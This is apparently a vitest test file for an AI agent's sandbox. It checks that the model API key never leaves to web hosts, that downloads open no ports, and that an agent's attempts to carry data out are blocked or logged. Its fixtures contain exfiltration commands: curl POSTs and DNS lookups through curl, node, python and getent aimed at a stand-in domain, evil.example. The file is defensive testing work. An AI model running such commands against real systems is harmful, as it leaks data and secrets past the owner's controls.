/** The web carries no credential out and opens no way in; and what an agent can carry out by it. */
import { describe, expect, test } from 'vitest';
import { deferred } from '../../src/deferred.ts';
import { Internet, needsInternet } from '../internet/internet.ts';
import { page } from '../internet/pages.ts';
import { App } from '../support/app.ts';
import { runs, trust } from '../support/browsing.ts';
import { listeningAddresses } from '../support/listening.ts';

const secret = 'the-real-key';
/** The headers of the model API's clients, with the agent's placeholder as the credential. */
const headers = ['x-api-key: $ANTHROPIC_API_KEY', 'authorization: Bearer $ANTHROPIC_API_KEY']
  .map((header) => `-H "${header}"`)
  .join(' ');

describe('the credential of the model API', needsInternet, () => {
  test('goes to nobody on the web, not even to a host with the name of the API', async () => {
    const internet = await Internet.start();
    const api = await internet.host('api.anthropic.com', page('not the API'));
    const app = await App.start();
    trust(app, internet);
    const said = await runs(
      app,
      `curl -sS ${headers} -d '{}' http://api.anthropic.com/v1/messages; echo
       curl -sS ${headers} -d '{}' https://api.anthropic.com/v1/messages; echo
       curl -sS ${headers} -d '{}' -H 'host: ${new URL(app.model.url).host}' http://api.anthropic.com/v1/messages`,
    );
    expect(said).toBe('not the API\nnot the API\nnot the API');
    expect(api.requests.map(({ scheme, path }) => `${scheme} ${path}`)).toEqual([
      'http /v1/messages',
      'https /v1/messages',
      'http /v1/messages',
    ]);
    for (const { headers: received } of api.requests) {
      expect(received['x-api-key']).toMatch(/^\S+$/);
      expect(received.authorization).toBe(`Bearer ${received['x-api-key']}`);
      expect(JSON.stringify(received)).not.toContain(secret);
      expect(received).not.toHaveProperty('proxy-connection');
      expect(received.host).toBe('api.anthropic.com');
    }
    const calls = app.model.calls.filter((call) => call.headers['x-api-key'] === secret);
    expect(calls).toHaveLength(app.model.calls.length);
  });
});

describe('a download', needsInternet, () => {
  test('opens no port on the host', async () => {
    const internet = await Internet.start();
    const asked = deferred<void>();
    const goOn = deferred<void>();
    await internet.host('page.example', async (_, response) => {
      response.write('the beginning');
      asked.resolve();
      await goOn.promise;
      response.end(' and the end');
    });
    const app = await App.start();
    const before = listeningAddresses(); // The host runs in this process.
    const answer = runs(app, 'curl -sS http://page.example/');
    await asked.promise;
    expect(listeningAddresses().filter((address) => !before.includes(address))).toEqual([]);
    goOn.resolve();
    expect(await answer).toBe('the beginning and the end');
  });
});

describe('an agent that tries to carry data out', needsInternet, () => {
  test('can do so to a host that it may reach: in paths, headers and bodies', async () => {
    const internet = await Internet.start();
    const wiki = await internet.host('en.wikipedia.org', page('an article'));
    const app = await App.start();
    const carry = "curl -s -d 'carried in a body' -H 'x-note: carried' http://en.wikipedia.org/";
    await runs(app, `${carry}carried`, 'family');
    const [seen] = wiki.requests;
    expect(seen).toMatchObject({
      method: 'POST',
      path: '/carried',
      headers: { 'x-note': 'carried' },
    });
    expect(seen?.headers['content-length']).toBe(String('carried in a body'.length));
    // The owner sees where it went and how many bytes.
    const { bytesUp } = await wiki.settledTraffic();
    await expect
      .poll(() => app.rows("SELECT bytes_up FROM ledger WHERE host = 'en.wikipedia.org'"))
      .toEqual([{ bytes_up: bytesUp }]);
  });

  test('can do so with the whole web open, in the names that it looks up', async () => {
    const internet = await Internet.start();
    const app = await App.start();
    const said = await runs(app, 'curl -sS http://carried-in-a-name.evil.example/');
    expect(said).toBe('carried-in-a-name.evil.example was not found.');
    expect(internet.names.queries).toContain('A carried-in-a-name.evil.example');
    expect(app.rows("SELECT requests FROM ledger WHERE host LIKE 'carried%'")).toEqual([
      { requests: 0 },
    ]);
  });

  test('cannot do so in names that are not on its list', async () => {
    const internet = await Internet.start();
    const app = await App.start();
    await runs(
      app,
      `curl -s http://carried.evil.example/; curl -s https://carried.evil.example/
       curl -s http://carried.pypi.org/; curl -s http://pypi.org.evil.example/
       node -e "require('dns').lookup('carried.evil.example', () => {})"
       node -e "require('dns').resolve('carried.evil.example', () => {})"
       node -e "fetch('https://carried.evil.example').catch(() => {})"
       python3 -c "import socket; socket.getaddrinfo('carried.evil.example', 80)"
       getent hosts carried.evil.example`,
      'family',
    );
    expect(internet.names.queries).toEqual([]);
  });
});
